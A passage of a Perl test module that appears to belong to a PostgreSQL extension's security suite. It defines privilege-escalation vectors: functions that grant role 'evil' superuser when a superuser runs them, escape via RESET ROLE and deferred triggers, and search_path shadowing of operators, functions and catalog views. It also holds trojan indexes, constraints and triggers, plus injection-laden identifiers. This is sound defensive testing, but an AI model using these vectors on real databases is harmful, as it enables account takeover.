# The ways by which the owner of a table may try to have code of his run with
# the rights of others.  070_attacks.pl plays them one after another.
#
# A vector is a hash:
#   name      what it is called in the output
#   super     SQL of the superuser beforehand
#   before    SQL of the tables' owner, before the table is watched
#   both      likewise, after it: for app.events and for evil.people in turn
#             ({T} the table, {N} a word that differs between the two)
#   after     SQL of the owner once it is watched and has rows
#   alive     SQL that reaches the code when it is run by hand, with the role
#             that runs it as alive_as (evil unless said): without it there
#             is nothing to be seen, and the vector proves nothing
#   trap      SQL that reaches the code when the superuser runs it (that of
#             alive unless said); '' where the superuser cannot
#   events    the name of the watched table once "after" has been run,
#             events_later once the further steps have
#   change, remove, empty
#             the application's UPDATE and DELETE, the owner's TRUNCATE, where
#             they differ from the usual ones
#   options   settings of the sessions of all others than the owner
#   prelude   SQL at the beginning of the superuser's sessions, prelude_app of
#             the application's
#   level     of pls.watch(), if not the usual one
#   extra     further steps, which follow the usual ones up to the picture of
#             the standings: [role, name, SQL]
#   picture   what the standings are to be, where not the usual; undef: they
#             are not looked at
#   errors    a pattern of errors that are as they should be, in any step
#   until     the last major version that has the way
package AttackVectors;

use strict;
use warnings;

use Exporter 'import';
our @EXPORT = qw(hostile_code events_columns shadows attack_vectors);

# What an owner has at hand, in a schema of his name.  Each function says as
# whom it runs in the server's log, which survives a rollback, and makes role
# evil a superuser if it can.  Code that runs as its owner in the session of
# somebody else tries to get out of that: by going back to the session's role,
# and by leaving behind what runs when the transaction ends.
sub hostile_code
{
	my ($owner) = @_;

	return <<~SQL;
	CREATE SCHEMA $owner AUTHORIZATION $owner;
	GRANT USAGE ON SCHEMA $owner TO PUBLIC;
	SET ROLE $owner;
	CREATE FUNCTION $owner.seen(what text) RETURNS void LANGUAGE plpgsql
		SET search_path = pg_catalog, pg_temp AS \$\$
	DECLARE
		strong CONSTANT boolean := (SELECT r.rolsuper FROM pg_roles r WHERE r.rolname = current_user);
	BEGIN
		RAISE LOG 'attack|$owner|%|%|%|%|%|', current_user, session_user, strong, what, current_setting('application_name');
		IF strong THEN
			BEGIN
				ALTER ROLE evil SUPERUSER;
			EXCEPTION WHEN OTHERS THEN
				RAISE LOG 'escalation failed: %', sqlerrm;
			END;
		ELSIF current_user <> session_user AND what !~ '^escape' AND current_setting('application_name') !~ '^(prepare|alive|turn)' THEN
			PERFORM $owner.escape();
		END IF;
	END \$\$;
	CREATE TABLE $owner.later (x integer);
	CREATE FUNCTION $owner.escape() RETURNS void LANGUAGE plpgsql AS \$\$
	BEGIN
		BEGIN
			INSERT INTO $owner.later VALUES (1);
		EXCEPTION WHEN OTHERS THEN NULL;
		END;
		BEGIN
			EXECUTE 'DECLARE escape CURSOR WITH HOLD FOR SELECT $owner.seen(''escape by a cursor'')';
		EXCEPTION WHEN OTHERS THEN NULL;
		END;
		BEGIN
			EXECUTE 'CREATE TEMPORARY TABLE pls_rebuild (entity_id text)';
			EXECUTE 'CREATE TRIGGER escape BEFORE INSERT ON pls_rebuild FOR EACH ROW EXECUTE FUNCTION $owner.fires()';
		EXCEPTION WHEN OTHERS THEN NULL;
		END;
		BEGIN
			EXECUTE 'RESET ROLE';
			PERFORM $owner.seen('escape by RESET ROLE');
		EXCEPTION WHEN OTHERS THEN NULL;
		END;
		BEGIN
			EXECUTE 'RESET SESSION AUTHORIZATION';
			PERFORM $owner.seen('escape by RESET SESSION AUTHORIZATION');
		EXCEPTION WHEN OTHERS THEN NULL;
		END;
	END \$\$;
	CREATE FUNCTION $owner.fold(integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE
		AS \$\$ BEGIN PERFORM $owner.seen('fold'); RETURN \$1; END \$\$;
	CREATE FUNCTION $owner.word(text) RETURNS text LANGUAGE plpgsql IMMUTABLE
		AS \$\$ BEGIN PERFORM $owner.seen('word'); RETURN \$1; END \$\$;
	CREATE FUNCTION $owner.fine(anyelement) RETURNS boolean LANGUAGE plpgsql IMMUTABLE
		AS \$\$ BEGIN PERFORM $owner.seen('fine'); RETURN true; END \$\$;
	CREATE FUNCTION $owner.made(text) RETURNS text LANGUAGE plpgsql VOLATILE
		AS \$\$ BEGIN PERFORM $owner.seen('made'); RETURN \$1; END \$\$;
	CREATE FUNCTION $owner.fires() RETURNS trigger LANGUAGE plpgsql
		AS \$\$ BEGIN PERFORM $owner.seen(TG_NAME::text); RETURN NEW; END \$\$;
	CREATE CONSTRAINT TRIGGER escape AFTER INSERT ON $owner.later DEFERRABLE INITIALLY DEFERRED
		FOR EACH ROW EXECUTE FUNCTION $owner.fires();
	CREATE FUNCTION $owner.fires_old() RETURNS trigger LANGUAGE plpgsql
		AS \$\$ BEGIN PERFORM $owner.seen(TG_NAME::text); RETURN OLD; END \$\$;
	RESET ROLE;
	SQL
}

# The same of a table that is to become a partition: it may have no identity of
# its own (from 17).
sub columns_to_attach
{
	return events_columns() =~ s/GENERATED BY DEFAULT AS IDENTITY/NOT NULL/r;
}

# The columns of a watched table.
sub events_columns
{
	return <<~'SQL';
		event_id    bigint GENERATED BY DEFAULT AS IDENTITY,
		org_id      text,
		user_id     text,
		name        text NOT NULL,
		created_at  timestamptz NOT NULL DEFAULT pg_catalog.now(),
		props       jsonb,
		email       text
	SQL
}

# A partitioned table in the place of the usual one.
sub partitioned
{
	my ($by) = @_;

	return "DROP TABLE app.events; SET ROLE evil; CREATE TABLE app.events (" . events_columns()
	  . ") PARTITION BY $by; "
	  . "GRANT SELECT, INSERT, UPDATE, DELETE ON app.events TO app; RESET ROLE;";
}

# What a table's owner can hang on it that is looked at by every query.
sub burdened
{
	my ($owner, $table) = @_;

	return <<~SQL;
	CREATE INDEX ON $table (($owner.fold(1)));
	ALTER TABLE $table ADD CONSTRAINT burden CHECK ($owner.fold(1) > 0);
	CREATE TRIGGER burden BEFORE INSERT ON $table FOR EACH ROW EXECUTE FUNCTION $owner.fires();
	CREATE TRIGGER zz_burden AFTER INSERT OR UPDATE ON $table FOR EACH ROW EXECUTE FUNCTION $owner.fires();
	SQL
}

# Operators and functions that fit better than the system's, or come first.
sub shadows
{
	my ($schema) = @_;

	return <<~SQL;
	DO \$do\$
	DECLARE
		o record;
		f record;
		n integer := 0;
	BEGIN
		FOR o IN
			SELECT p.oprname, l.typname AS lefttype, r.typname AS righttype,
			       pg_catalog.format_type(p.oprresult, NULL) AS result
			  FROM pg_catalog.pg_operator p
			  JOIN pg_catalog.pg_type l ON l.oid = p.oprleft
			  JOIN pg_catalog.pg_type r ON r.oid = p.oprright
			 WHERE p.oprname IN ('=', '<>', '<', '>', '<=', '>=', '+', '-', '*', '/', '||', '\@\@', '->', '->>', '~', '<\@', '\@>')
			   AND l.typname IN ('text', 'int8', 'int4', 'timestamptz', 'interval', 'numeric', 'jsonb', 'bool', 'oid', 'name', 'char', 'float8')
			   AND r.typname IN ('text', 'int8', 'int4', 'timestamptz', 'interval', 'numeric', 'jsonb', 'jsonpath', 'bool', 'oid', 'name', 'char', 'float8')
		LOOP
			n := n + 1;
			EXECUTE pg_catalog.format('CREATE FUNCTION $schema.shadow_%s(pg_catalog.%I, pg_catalog.%I) RETURNS %s LANGUAGE plpgsql IMMUTABLE AS \$f\$ '
				'BEGIN PERFORM evil.seen(%L); RETURN \$1 OPERATOR(pg_catalog.%s) \$2; END \$f\$',
				n, o.lefttype, o.righttype, o.result, 'operator ' || o.oprname, o.oprname);
			EXECUTE pg_catalog.format('CREATE OPERATOR $schema.%s (LEFTARG = pg_catalog.%I, RIGHTARG = pg_catalog.%I, FUNCTION = $schema.shadow_%s)',
				o.oprname, o.lefttype, o.righttype, n);
		END LOOP;
		FOR f IN
			SELECT p.proname, pg_catalog.pg_get_function_identity_arguments(p.oid) AS arguments,
			       pg_catalog.pg_get_function_result(p.oid) AS result,
			       (SELECT pg_catalog.string_agg('\$' || i, ', ') FROM pg_catalog.generate_series(1, p.pronargs) i) AS passed
			  FROM pg_catalog.pg_proc p
			 WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND p.provariadic = 0
			   AND NOT p.proretset AND p.pronargs BETWEEN 0 AND 3
			   AND NOT p.proargtypes::oid[] && ARRAY(SELECT t.oid FROM pg_catalog.pg_type t WHERE t.typtype = 'p')
			   AND p.prorettype NOT IN (SELECT t.oid FROM pg_catalog.pg_type t WHERE t.typtype = 'p')
			   AND p.proname IN ('now', 'clock_timestamp', 'lower', 'upper', 'length', 'octet_length', 'split_part', 'round',
			                     'date_trunc', 'hashtextextended', 'btrim', 'left', 'right', 'regexp_replace', 'replace',
			                     'isfinite', 'abs', 'trim_scale', 'gen_random_uuid', 'pg_get_userbyid', 'current_setting',
			                     'nextval', 'currval', 'to_char', 'strpos', 'starts_with', 'jsonb_typeof', 'quote_ident',
			                     'pg_has_role', 'has_table_privilege', 'current_database')
		LOOP
			EXECUTE pg_catalog.format('CREATE FUNCTION $schema.%I(%s) RETURNS %s LANGUAGE plpgsql IMMUTABLE AS \$f\$ '
				'BEGIN PERFORM evil.seen(%L); RETURN pg_catalog.%I(%s); END \$f\$',
				f.proname, f.arguments, f.result, 'function ' || f.proname, f.proname, f.passed);
		END LOOP;
	END \$do\$;
	CREATE FUNCTION $schema.format(text) RETURNS text LANGUAGE plpgsql AS \$\$ BEGIN PERFORM evil.seen('format'); RETURN \$1; END \$\$;
	CREATE FUNCTION $schema.format(text, text) RETURNS text LANGUAGE plpgsql AS \$\$ BEGIN PERFORM evil.seen('format'); RETURN pg_catalog.format(\$1, \$2); END \$\$;
	CREATE FUNCTION $schema.format(text, text, text) RETURNS text LANGUAGE plpgsql AS \$\$ BEGIN PERFORM evil.seen('format'); RETURN pg_catalog.format(\$1, \$2, \$3); END \$\$;
	CREATE DOMAIN $schema."text" AS pg_catalog.text CHECK (evil.fine(VALUE));
	CREATE DOMAIN $schema.jsonb AS pg_catalog.jsonb CHECK (evil.fine(VALUE));
	CREATE DOMAIN $schema.timestamptz AS pg_catalog.timestamptz CHECK (evil.fine(VALUE));
	CREATE DOMAIN $schema."numeric" AS pg_catalog.numeric CHECK (evil.fine(VALUE));
	CREATE DOMAIN $schema.regclass AS pg_catalog.regclass CHECK (evil.fine(VALUE));
	CREATE VIEW $schema.pg_class AS SELECT evil.made('pg_class') AS relname, c.oid FROM pg_catalog.pg_class c;
	CREATE VIEW $schema.pg_proc AS SELECT evil.made('pg_proc') AS proname, p.oid FROM pg_catalog.pg_proc p;
	CREATE VIEW $schema.pg_roles AS SELECT evil.made('pg_roles') AS rolname, r.oid FROM pg_catalog.pg_roles r;
	SQL
}

# Relations of the names that pls has, in the session's own schema, which
# every role may fill: a name that is written without its schema meets them.
my $temporary = <<~'SQL';
	DO $do$
	DECLARE
		r record;
	BEGIN
		FOR r IN SELECT c.relname FROM pg_catalog.pg_class c
		          WHERE c.relnamespace IN ('pls'::regnamespace, 'pls_internal'::regnamespace) AND c.relkind IN ('r', 'v')
		LOOP
			EXECUTE pg_catalog.format('CREATE TEMPORARY VIEW %I AS SELECT evil.made(%L) AS motion, evil.made(''entity'') AS entity_id',
				r.relname, r.relname);
		END LOOP;
	END $do$;
	CREATE TEMPORARY TABLE pls_rebuild (entity_id text, due timestamptz, evidence text DEFAULT evil.made('evidence'),
		newest timestamptz, was_lane text, was_at timestamptz, waiting uuid);
	CREATE INDEX ON pls_rebuild ((evil.fold(1)));
	CREATE TRIGGER burden BEFORE INSERT OR UPDATE ON pls_rebuild FOR EACH ROW EXECUTE FUNCTION evil.fires();
	CREATE TEMPORARY VIEW pls_new AS SELECT evil.made('pls_new') AS org_id;
	CREATE TEMPORARY VIEW new_users AS SELECT evil.made('new_users') AS user_id;
	CREATE FUNCTION pg_temp.now() RETURNS timestamptz LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.seen('pg_temp.now'); RETURN pg_catalog.now(); END $$;
	CREATE FUNCTION pg_temp.format(text, text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.seen('pg_temp.format'); RETURN $1; END $$;
	CREATE DOMAIN pg_temp.word AS text CHECK (evil.fine(VALUE));
	SQL

# Settings that any session may have, and that change how values are written,
# how statements are planned and what PL/pgSQL complains of.
# Not check_function_bodies=off: with an empty search_path that is how a session
# of the extension's owner says that it loads a dump.
my $settings = join ' ', map { "-c $_" } split ' ', <<~'LIST';
  search_path= DateStyle=German,DMY IntervalStyle=sql_standard TimeZone=Pacific/Chatham
  extra_float_digits=-15 bytea_output=escape lc_numeric=C lc_monetary=C array_nulls=off
  transform_null_equals=on standard_conforming_strings=off backslash_quote=on
  escape_string_warning=off quote_all_identifiers=on xmlbinary=hex
  plan_cache_mode=force_generic_plan enable_seqscan=off enable_indexscan=off
  enable_bitmapscan=off enable_hashjoin=off enable_nestloop=off enable_sort=off
  from_collapse_limit=1 join_collapse_limit=1 geqo_threshold=2 work_mem=64kB
  enable_partition_pruning=off parallel_setup_cost=0 parallel_tuple_cost=0
  min_parallel_table_scan_size=0
  default_table_access_method=heap temp_tablespaces= default_toast_compression=pglz
  jit=off cursor_tuple_fraction=0.0001 synchronous_commit=off client_min_messages=error
  gin_fuzzy_search_limit=1 password_encryption=md5 plpgsql.extra_errors=all
  LIST

# A list of names that mean something where they are pasted into a query.
my @odd_names = (
	q{x$1}, q{e.$2, $3::text[]}, q{a"b'c\\d%s%I%L}, q{$sql$; SELECT evil.made(1) --},
	q{pls_rebuild}, q{}. ('n' x 63), "new\nline;--", q{/* }, q{{acme}}, q{pg_catalog});

sub quoted
{
	my ($name) = @_;

	$name =~ s/"/""/g;
	return qq{"$name"};
}

# The vectors of the code that hangs on a table.
sub vectors_of_tables
{
	my $read = 'SELECT count(*) FROM app.events; SELECT count(*) FROM evil.people';

	return (
		{ name => 'expression index',
			both => 'CREATE INDEX ON {T} ((evil.fold(1))); CREATE INDEX ON {T} (evil.word(org_id)); CREATE INDEX ON {T} (org_id, (evil.fold(1))); CREATE INDEX ON {T} (user_id, (evil.word(name))) INCLUDE (email);',
			alive => $read },
		{ name => 'partial index',
			both => 'CREATE INDEX ON {T} (org_id) WHERE evil.fold(1) > 0; CREATE INDEX ON {T} (user_id) WHERE evil.word(name) <> \'\';',
			alive => $read },
		{ name => 'index with a collation',
			both => q{CREATE INDEX ON {T} (org_id COLLATE evil.own, (evil.fold(1)));},
			before => q{CREATE COLLATION evil.own (provider = icu, locale = 'und-u-ks-level2', deterministic = false);},
			alive => $read },
		{ name => 'exclusion constraint',
			both => 'ALTER TABLE {T} ADD EXCLUDE USING btree (event_id WITH =, (evil.fold(1)) WITH =);',
			alive => $read },
		{ name => 'check constraint',
			both => q{ALTER TABLE {T} ADD CHECK (evil.fold(1) > 0), ADD CHECK (evil.word(org_id) <> ''), ADD CHECK (evil.fold(2) > 1) NOT VALID;},
			alive => q{SELECT count(*) FROM app.events WHERE org_id = 'acme'} },
		{ name => 'generated column',
			both => 'ALTER TABLE {T} ADD made text GENERATED ALWAYS AS (evil.word(org_id)) STORED;',
			alive => q{INSERT INTO app.events (org_id, name) VALUES ('acme', 'login')} },
		{ name => 'default',
			both => q{ALTER TABLE {T} ADD fast text DEFAULT evil.word('w'), ADD slow text DEFAULT evil.made('m'), ALTER email SET DEFAULT evil.made('m@acme.example');},
			alive => q{INSERT INTO app.events (org_id, name) VALUES ('acme', 'login')} },
		{ name => 'domains',
			both => 'ALTER TABLE {T} ALTER org_id TYPE evil.word, ALTER user_id TYPE evil.word, ALTER email TYPE evil.word, ALTER name TYPE evil.word, ALTER created_at TYPE evil.instant, ALTER props TYPE evil.document;',
			before => q{CREATE DOMAIN evil.word AS text CHECK (evil.fine(VALUE)); CREATE DOMAIN evil.instant AS timestamptz CHECK (evil.fine(VALUE)); CREATE DOMAIN evil.document AS jsonb DEFAULT '{}' CHECK (evil.fine(VALUE));},
			alive => q{SELECT 'w'::evil.word, '{}'::evil.document, 'epoch'::evil.instant} },
		{ name => 'domain over a domain',
			both => 'ALTER TABLE {T} ALTER org_id TYPE evil.outer, ALTER user_id TYPE evil.outer;',
			before => q{CREATE DOMAIN evil.inner AS varchar(80) CHECK (evil.fine(VALUE)); CREATE DOMAIN evil.outer AS evil.inner NOT NULL DEFAULT evil.made('') CHECK (evil.fine(VALUE)); },
			picture => undef,	# NOT NULL refuses some of the events
			errors => qr/domain outer does not allow null values/,
			alive => q{SELECT 'w'::evil.outer} },
		{ name => 'enum with a cast to text',
			both => 'ALTER TABLE {T} ALTER org_id TYPE evil.org USING org_id::evil.org, ALTER user_id TYPE evil.person USING user_id::evil.person;',
			before => q{CREATE TYPE evil.org AS ENUM ('acme', 'beta', 'gamma'); CREATE TYPE evil.person AS ENUM ('1', '2', '3', '9');
				CREATE FUNCTION evil.org_text(evil.org) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM evil.seen('cast'); RETURN 'cast'; END $$;
				CREATE CAST (evil.org AS text) WITH FUNCTION evil.org_text(evil.org) AS IMPLICIT;
				CREATE FUNCTION evil.org_varchar(evil.org) RETURNS varchar LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM evil.seen('cast'); RETURN 'cast'; END $$;
				CREATE CAST (evil.org AS varchar) WITH FUNCTION evil.org_varchar(evil.org) AS IMPLICIT;
				CREATE FUNCTION evil.person_text(evil.person) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM evil.seen('cast'); RETURN 'cast'; END $$;
				CREATE CAST (evil.person AS text) WITH FUNCTION evil.person_text(evil.person) AS ASSIGNMENT;
				CREATE FUNCTION evil.same_org(evil.org, text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM evil.seen('operator'); RETURN true; END $$;
				CREATE OPERATOR evil.= (LEFTARG = evil.org, RIGHTARG = text, FUNCTION = evil.same_org);},
			change => q{UPDATE app.events SET name = 'export' WHERE user_id = '2' AND name = 'login'},
			remove => q{DELETE FROM app.events WHERE user_id = '1' AND name = 'invite'},
			alive => q{SELECT 'acme'::evil.org::text} },
		{ name => 'composite and range types',
			both => 'ALTER TABLE {T} ADD pair evil.pair, ADD span evil.span, ADD pairs evil.pair[]; CREATE INDEX ON {T} USING gist (span);',
			before => q{CREATE DOMAIN evil.word AS text CHECK (evil.fine(VALUE)); CREATE TYPE evil.pair AS (a evil.word, b integer);
				CREATE FUNCTION evil.distance(double precision, double precision) RETURNS double precision LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM evil.seen('distance'); RETURN 1; END $$;
				CREATE TYPE evil.span AS RANGE (subtype = double precision, subtype_diff = evil.distance);
				CREATE FUNCTION evil.pair_text(evil.pair) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM evil.seen('cast'); RETURN 'cast'; END $$;
				CREATE CAST (evil.pair AS text) WITH FUNCTION evil.pair_text(evil.pair) AS IMPLICIT;},
			extra => [
				[ 'super', 'watch by a composite', q{SELECT pls.unwatch('app.events'); SELECT pls.watch('app.events', event => 'name', at => 'created_at', account => 'pair')} ],
				[ 'super', 'watch by a range', q{SELECT pls.watch('app.events', event => 'name', at => 'created_at', actor => 'span', account => 'org_id')} ],
				[ 'super', 'map a composite', q{SELECT pls.map_users('evil.people', user_id => 'user_id', attributes => 'pair'); SELECT pls.map_accounts('evil.people', account_id => 'pair')} ] ],
			alive => q{SELECT ROW('a', 1)::evil.pair::text} },
		{ name => 'extended statistics',
			both => q{CREATE STATISTICS evil.{N} ON (evil.word('w') || org_id), (evil.word(name)) FROM {T};},
			alive => $read },
		{ name => 'row security',
			both => 'ALTER TABLE {T} ENABLE ROW LEVEL SECURITY; CREATE POLICY own ON {T} USING (evil.fine(org_id)) WITH CHECK (evil.fine(org_id));',
			alive => q{INSERT INTO app.events (org_id, name) VALUES ('acme', 'login')}, alive_as => 'app', trap => '' },
		{ name => 'row security, forced',
			both => 'ALTER TABLE {T} ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY; CREATE POLICY own ON {T} USING (evil.fine(org_id) AND evil.fold(1) > 0) WITH CHECK (evil.fine(org_id));',
			# a query as the owner would miss rows, so the mapping is refused
			picture => "people 1 40.000\npeople 2 40.000\npeople 3 40.000\ntrial acme 40.000\ntrial beta 40.000",
			alive => 'SELECT count(*) FROM evil.people', trap => '' },
		{ name => 'rules',
			both => q{CREATE RULE added AS ON INSERT TO {T} DO ALSO SELECT evil.made('added'); CREATE RULE changed AS ON UPDATE TO {T} DO ALSO SELECT evil.made('changed'); CREATE RULE removed AS ON DELETE TO {T} DO ALSO SELECT evil.made('removed');},
			alive => q{INSERT INTO app.events (org_id, name) VALUES ('acme', 'login')} },
		{ name => 'triggers',
			both => q{CREATE TRIGGER a_row BEFORE INSERT OR UPDATE ON {T} FOR EACH ROW EXECUTE FUNCTION evil.fires();
				CREATE TRIGGER a_gone BEFORE DELETE ON {T} FOR EACH ROW EXECUTE FUNCTION evil.fires_old();
				CREATE TRIGGER a_statement BEFORE INSERT OR UPDATE OR DELETE OR TRUNCATE ON {T} FOR EACH STATEMENT EXECUTE FUNCTION evil.fires();
				CREATE TRIGGER zz_row AFTER INSERT OR UPDATE OR DELETE ON {T} FOR EACH ROW EXECUTE FUNCTION evil.fires();
				CREATE TRIGGER zz_statement AFTER INSERT OR UPDATE OR DELETE OR TRUNCATE ON {T} FOR EACH STATEMENT EXECUTE FUNCTION evil.fires();
				CREATE CONSTRAINT TRIGGER zz_late AFTER INSERT OR UPDATE OR DELETE ON {T} DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION evil.fires();},
			alive => q{INSERT INTO app.events (org_id, name) VALUES ('acme', 'login')} },
		{ name => 'trigger that changes settings',
			before => shadows('evil') . <<~'SQL',
				CREATE FUNCTION evil.turns() RETURNS trigger LANGUAGE plpgsql AS $$
				BEGIN
					PERFORM evil.seen('turns');
					PERFORM pg_catalog.set_config('search_path', 'evil, pg_catalog', false);
					PERFORM pg_catalog.set_config('row_security', 'off', false);
					PERFORM pg_catalog.set_config('DateStyle', 'German', false);
					RETURN NEW;
				END $$;
				CREATE TRIGGER a_turns BEFORE INSERT ON app.events FOR EACH STATEMENT EXECUTE FUNCTION evil.turns();
				SQL
			alive => q{INSERT INTO app.events (org_id, name) VALUES ('acme', 'login')} },
		{ name => 'foreign key with actions',
			before => q{CREATE TABLE evil.orgs (org_id text PRIMARY KEY); CREATE INDEX ON evil.orgs ((evil.fold(1))); INSERT INTO evil.orgs VALUES ('acme'), ('beta'), ('gamma');
				CREATE TRIGGER burden BEFORE UPDATE ON evil.orgs FOR EACH ROW EXECUTE FUNCTION evil.fires();
				ALTER TABLE app.events ADD FOREIGN KEY (org_id) REFERENCES evil.orgs ON DELETE CASCADE ON UPDATE CASCADE; CREATE INDEX ON app.events ((evil.fold(1)));},
			after => q{DELETE FROM evil.orgs WHERE org_id = 'gamma'; UPDATE evil.orgs SET org_id = org_id;},
			alive => $read },
		{ name => 'functions of the row type',
			both => q{ALTER TABLE {T} ALTER email DROP NOT NULL;},
			before => q{CREATE FUNCTION evil.plan(app.events) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.seen('column'); RETURN 'pro'; END $$;
				CREATE FUNCTION evil.text(app.events) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.seen('column'); RETURN 'pro'; END $$;
				CREATE FUNCTION app.org_id(app.events) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.seen('column'); RETURN 'acme'; END $$;},
			after => q{ALTER TABLE app.events RENAME org_id TO org; ALTER TABLE app.events RENAME user_id TO person;},
			change => q{UPDATE app.events SET name = 'export' WHERE org = 'beta' AND name = 'login'},
			remove => q{DELETE FROM app.events WHERE org = 'acme' AND name = 'invite'},
			options => '-c search_path=evil,app,pg_catalog',
			picture => undef,
			alive => q{INSERT INTO app.events (org_id, name) VALUES ('acme', 'login'); SELECT evil.plan(e) FROM app.events e},
			trap => q{INSERT INTO app.events (name) VALUES ('login'); SELECT evil.plan(e) FROM app.events e} },
	);
}

# Relations of several owners, and of other kinds.
sub vectors_of_relations
{
	my ($host, $port) = @_;

	return (
		{ name => 'partition of another owner',
			super => partitioned('LIST (org_id)')
			  . 'CREATE TABLE mallory.rest (' . columns_to_attach() . '); ALTER TABLE mallory.rest OWNER TO mallory; '
			  . 'ALTER TABLE app.events ATTACH PARTITION mallory.rest DEFAULT; SET ROLE mallory; ' . burdened('mallory', 'mallory.rest'),
			alive => 'SELECT count(*) FROM mallory.rest', alive_as => 'mallory' },
		{ name => 'child of another owner',
			super => 'CREATE TABLE mallory.child () INHERITS (app.events); ALTER TABLE mallory.child OWNER TO mallory; SET ROLE mallory; '
			  . burdened('mallory', 'mallory.child')
			  . q{INSERT INTO mallory.child (event_id, org_id, user_id, name) VALUES (0, 'delta', '9', 'login');},
			alive => 'SELECT count(*) FROM mallory.child', alive_as => 'mallory' },
		{ name => 'partitions of evil below a table of the superuser',
			super => 'DROP TABLE app.events; CREATE TABLE app.events (' . events_columns() . ') PARTITION BY LIST (org_id); '
			  . 'GRANT SELECT, INSERT, UPDATE, DELETE, TRUNCATE ON app.events TO app, evil; '
			  . 'CREATE TABLE app.rest (' . columns_to_attach() . q{) PARTITION BY HASH ((evil.word('w') || org_id)); ALTER TABLE app.rest OWNER TO evil; }
			  . 'SET ROLE evil; CREATE TABLE app.only PARTITION OF app.rest FOR VALUES WITH (MODULUS 1, REMAINDER 0); RESET ROLE; '
			  . 'ALTER TABLE app.events ATTACH PARTITION app.rest DEFAULT; SET ROLE evil; ' . burdened('evil', 'app.only') . 'RESET ROLE; ALTER ROLE evil NOSUPERUSER',
			alive => 'SELECT count(*) FROM app.rest' },
		{ name => 'expression of a partition key',
			super => partitioned(q{HASH ((evil.word('w') || org_id))}),
			before => 'CREATE TABLE app.only PARTITION OF app.events FOR VALUES WITH (MODULUS 1, REMAINDER 0);',
			alive => 'SELECT count(*) FROM app.events' },
		{ name => 'expression of a key of partitions below',
			super => partitioned('LIST (org_id)'),
			before => q{CREATE TABLE app.rest PARTITION OF app.events DEFAULT PARTITION BY HASH ((evil.word('w') || org_id));
				CREATE TABLE app.only PARTITION OF app.rest FOR VALUES WITH (MODULUS 1, REMAINDER 0);},
			level => 'row',
			picture => '',	# refused
			alive => 'SELECT count(*) FROM app.events' },
		{ name => 'foreign table as a partition',
			super => partitioned('LIST (org_id)') . <<~SQL,
				CREATE EXTENSION postgres_fdw;
				GRANT USAGE ON FOREIGN DATA WRAPPER postgres_fdw TO evil;
				DO \$\$ BEGIN EXECUTE pg_catalog.format(\$f\$
					SET ROLE evil;
					CREATE SERVER loop FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host %L, port %L, dbname %L);
					CREATE USER MAPPING FOR PUBLIC SERVER loop OPTIONS (user %L)\$f\$, '$host', '$port', current_database(), session_user); END \$\$;
				SQL
			before => 'CREATE TABLE app.rest PARTITION OF app.events DEFAULT; '
			  . q{CREATE VIEW evil.trap AS SELECT 1::bigint AS event_id, 'far'::text AS org_id, evil.made('4') AS user_id, 'export'::text AS name, pg_catalog.now() AS created_at, NULL::jsonb AS props, NULL::text AS email;
				CREATE FOREIGN TABLE evil.far_people (user_id text, org_id text) SERVER loop OPTIONS (schema_name 'evil', table_name 'trap');},
			after => q{CREATE FOREIGN TABLE app.far PARTITION OF app.events FOR VALUES IN ('far') SERVER loop OPTIONS (schema_name 'evil', table_name 'trap');},
			empty => 'TRUNCATE app.rest',
			picture => undef,	# the source cannot be read, and is left out
			extra => [
				[ 'super', 'watch a foreign table', q{SELECT pls.watch('evil.far_people', event => 'org_id', at => 'org_id', account => 'org_id')} ],
				[ 'super', 'map a foreign table', q{SELECT pls.map_users('evil.far_people', user_id => 'user_id')} ],
				[ 'super', 'map accounts of a foreign table', q{SELECT pls.map_accounts('evil.far_people', account_id => 'org_id')} ] ],
			alive => 'SELECT count(user_id) FROM evil.trap',
			trap => 'SELECT user_id FROM evil.far_people' },
		{ name => 'foreign table as a child',
			super => <<~SQL,
				CREATE EXTENSION postgres_fdw;
				GRANT USAGE ON FOREIGN DATA WRAPPER postgres_fdw TO evil;
				DO \$\$ BEGIN EXECUTE pg_catalog.format(\$f\$
					SET ROLE evil;
					CREATE SERVER loop FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host %L, port %L, dbname %L);
					CREATE USER MAPPING FOR PUBLIC SERVER loop OPTIONS (user %L)\$f\$, '$host', '$port', current_database(), session_user); END \$\$;
				SQL
			before => q{CREATE VIEW evil.trap AS SELECT 1::bigint AS event_id, 'far'::text AS org_id, evil.made('4') AS user_id, 'export'::text AS name, pg_catalog.now() AS created_at, NULL::jsonb AS props, NULL::text AS email;},
			after => q{CREATE FOREIGN TABLE app.far () INHERITS (app.events) SERVER loop OPTIONS (schema_name 'evil', table_name 'trap');},
			change => q{UPDATE ONLY app.events SET name = 'export' WHERE org_id = 'beta' AND name = 'login'},
			remove => q{DELETE FROM ONLY app.events WHERE org_id = 'acme' AND name = 'invite'},
			empty => 'TRUNCATE ONLY app.events',
			picture => undef,	# likewise
			alive => 'SELECT count(user_id) FROM evil.trap',
			trap => 'SELECT user_id FROM app.far' },
		{ name => 'table turned into a view', until => 15,
			before => 'DROP TRIGGER IF EXISTS nothing ON app.events;',
			after => <<~'SQL',
				DO $$ DECLARE t name; BEGIN
					FOR t IN SELECT tgname FROM pg_catalog.pg_trigger WHERE tgrelid = 'app.events'::regclass LOOP EXECUTE pg_catalog.format('DROP TRIGGER %I ON app.events', t); END LOOP;
				END $$;
				DELETE FROM app.events;
				ALTER TABLE app.events DROP CONSTRAINT events_pkey, ALTER event_id DROP IDENTITY;
				ALTER TABLE app.events ALTER event_id DROP NOT NULL, ALTER name DROP NOT NULL, ALTER created_at DROP NOT NULL, ALTER created_at DROP DEFAULT;
				VACUUM app.events;
